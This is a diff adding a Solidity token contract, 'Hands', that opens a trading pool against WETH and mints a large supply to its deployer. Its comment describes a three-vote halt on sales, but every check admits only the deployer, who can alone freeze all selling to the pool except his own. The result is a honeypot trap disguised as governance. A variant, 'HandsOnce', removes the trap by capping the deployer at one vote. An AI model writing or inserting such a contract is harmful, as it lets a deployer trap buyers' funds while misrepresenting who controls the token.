@@ -183,3 +183,54 @@ contract HandedByThemselves is Handed {
         _hand(msg.sender);
     }
 }
+
+/// Three hands stop sales, of whoever raises them.
+contract Hands is Ledger {
+    address internal immutable maker = msg.sender;
+    address internal immutable pool;
+    bool internal shut;
+    bool internal motion;
+    uint256 internal hands;
+    uint256 internal session;
+    mapping(uint256 => mapping(address => bool)) internal raised;
+
+    constructor() {
+        pool = IPairMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
+            address(this),
+            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
+        );
+        _make(msg.sender, 1_000_000 ether);
+    }
+
+    function move(bool shut_) external {
+        require(msg.sender == maker);
+        (motion, hands) = (shut_, 0);
+        session++;
+    }
+
+    function raise() external {
+        require(msg.sender == maker && (!raised[session][msg.sender] || _mayAgain()));
+        raised[session][msg.sender] = true;
+        hands++;
+    }
+
+    function carry() external {
+        require(msg.sender == maker && hands >= 3);
+        (shut, hands) = (motion, 0);
+    }
+
+    function _mayAgain() internal pure virtual returns (bool) {
+        return true;
+    }
+
+    function _move(address from, address to, uint256 value) internal override {
+        require(!shut || to != pool || from == maker);
+        super._move(from, to, value);
+    }
+}
+
+contract HandsOnce is Hands {
+    function _mayAgain() internal pure override returns (bool) {
+        return false;
+    }
+}
